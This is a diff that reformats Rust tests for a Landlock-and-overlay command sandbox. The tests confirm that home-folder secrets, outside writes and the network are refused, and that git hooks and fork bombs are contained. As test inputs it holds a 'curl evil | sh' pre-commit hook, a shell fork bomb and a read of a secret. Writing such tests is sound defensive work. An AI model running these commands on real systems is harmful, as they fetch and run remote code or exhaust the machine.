@@ -20,7 +20,11 @@ struct Setup {
 /// A home folder with a secret and a toolchain folder, a workspace beside it, and the scratch
 /// folder a data dir would hold.
 fn setup() -> Setup {
-    assert!(support().landlock_abi > 0 && support().overlay, "this machine must offer Landlock and overlays: {:?}", support());
+    assert!(
+        support().landlock_abi > 0 && support().overlay,
+        "this machine must offer Landlock and overlays: {:?}",
+        support()
+    );
     let dir = tempfile::tempdir().unwrap();
     let home = dir.path().join("home");
     std::fs::create_dir_all(home.join(".ssh")).unwrap();
@@ -69,7 +73,12 @@ async fn a_secret_in_the_home_folder_is_refused_and_the_result_says_why() {
     let out = s.run(SandboxPolicy::WorkspaceWrite, &through).await;
     assert!(!out.succeeded() && !out.stdout.contains("SECRET"), "{out:?}");
     // The toolchains' folders and the system stay readable.
-    let out = s.run(SandboxPolicy::WorkspaceWrite, &format!("cat {}/.cargo/config.toml && cat /etc/hostname", s.home.display())).await;
+    let out = s
+        .run(
+            SandboxPolicy::WorkspaceWrite,
+            &format!("cat {}/.cargo/config.toml && cat /etc/hostname", s.home.display()),
+        )
+        .await;
     assert!(out.succeeded() && out.stdout.contains("[build]"), "{out:?}");
 }
 
@@ -82,7 +91,8 @@ async fn writes_outside_the_workspace_are_refused() {
     let out = s.run(SandboxPolicy::WorkspaceWrite, "echo x > /etc/aura-sandbox-test").await;
     assert!(!out.succeeded() && !Path::new("/etc/aura-sandbox-test").exists(), "{out:?}");
     // The private temp folder is writable, and is not /tmp.
-    let out = s.run(SandboxPolicy::WorkspaceWrite, "echo scratch > \"$TMPDIR/t\" && cat \"$TMPDIR/t\" && echo $TMPDIR").await;
+    let out =
+        s.run(SandboxPolicy::WorkspaceWrite, "echo scratch > \"$TMPDIR/t\" && cat \"$TMPDIR/t\" && echo $TMPDIR").await;
     assert!(out.succeeded() && out.stdout.contains("scratch") && !out.stdout.contains("\n/tmp\n"), "{out:?}");
 }
 
@@ -92,7 +102,9 @@ async fn the_network_is_refused_unless_granted() {
     let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
     let port = listener.local_addr().unwrap().port();
     listener.set_nonblocking(true).unwrap();
-    let connect = format!("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); print('connected')\"");
+    let connect = format!(
+        "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); print('connected')\""
+    );
     let out = s.run(SandboxPolicy::WorkspaceWrite, &connect).await;
     assert!(!out.succeeded() && !out.stdout.contains("connected"), "{out:?}");
     assert!(out.stderr.contains("PermissionError") || out.stderr.contains("not permitted"), "{}", out.stderr);
@@ -126,10 +138,15 @@ async fn writes_to_the_workspace_are_captured_for_review_not_written() {
     assert!(s.root().join("gone.txt").exists());
     assert_eq!(std::fs::read_to_string(s.root().join("target/debug/out")).unwrap(), "built\n");
     assert!(!s.root().join("blob.bin").exists());
-    let kinds: Vec<(&str, FileChangeKind)> = out.writes.changes.iter().map(|c| (c.path.as_str(), c.kind.clone())).collect();
+    let kinds: Vec<(&str, FileChangeKind)> =
+        out.writes.changes.iter().map(|c| (c.path.as_str(), c.kind.clone())).collect();
     assert_eq!(
         kinds,
-        vec![("gone.txt", FileChangeKind::Delete), ("kept.txt", FileChangeKind::Modify), ("new.txt", FileChangeKind::Add)]
+        vec![
+            ("gone.txt", FileChangeKind::Delete),
+            ("kept.txt", FileChangeKind::Modify),
+            ("new.txt", FileChangeKind::Add)
+        ]
     );
     assert_eq!(out.writes.changes[1].after.as_deref(), Some("alpha\ngamma\n"));
     assert_eq!(out.writes.left_out, vec![("blob.bin".to_string(), "binary".to_string())]);
@@ -141,7 +158,12 @@ async fn a_command_cannot_write_into_git() {
     let s = setup();
     let git = std::process::Command::new("git").arg("init").arg("-q").current_dir(s.root()).status().unwrap();
     assert!(git.success());
-    let out = s.run(SandboxPolicy::WorkspaceWrite, "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit").await;
+    let out = s
+        .run(
+            SandboxPolicy::WorkspaceWrite,
+            "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+        )
+        .await;
     assert!(out.succeeded(), "{out:?}");
     assert!(!s.root().join(".git/hooks/pre-commit").exists(), "a hook was planted");
     assert_eq!(out.writes.git, vec![".git/hooks/pre-commit".to_string()]);
@@ -151,7 +173,8 @@ async fn a_command_cannot_write_into_git() {
 #[tokio::test]
 async fn a_command_killed_halfway_still_shows_what_it_wrote() {
     let s = setup();
-    let out = s.run_for(SandboxPolicy::WorkspaceWrite, "echo partial > half.txt; sleep 30", Duration::from_secs(1)).await;
+    let out =
+        s.run_for(SandboxPolicy::WorkspaceWrite, "echo partial > half.txt; sleep 30", Duration::from_secs(1)).await;
     assert!(out.timed_out, "{out:?}");
     assert_eq!(out.writes.changes.len(), 1);
     assert_eq!(out.writes.changes[0].path, "half.txt");
@@ -172,7 +195,9 @@ async fn read_only_commands_write_nothing() {
 async fn a_fork_bomb_and_a_flood_are_bounded() {
     let s = setup();
     let started = Instant::now();
-    let out = s.run_for(SandboxPolicy::WorkspaceWrite, "bomb() { bomb | bomb & }; bomb; sleep 3", Duration::from_secs(5)).await;
+    let out = s
+        .run_for(SandboxPolicy::WorkspaceWrite, "bomb() { bomb | bomb & }; bomb; sleep 3", Duration::from_secs(5))
+        .await;
     assert!(started.elapsed() < Duration::from_secs(20), "took {:?}", started.elapsed());
     assert!(!out.succeeded() || out.stderr.contains("fork") || out.stderr.contains("Resource"), "{out:?}");
     // Aura can still start commands, and nothing of the bomb is left.
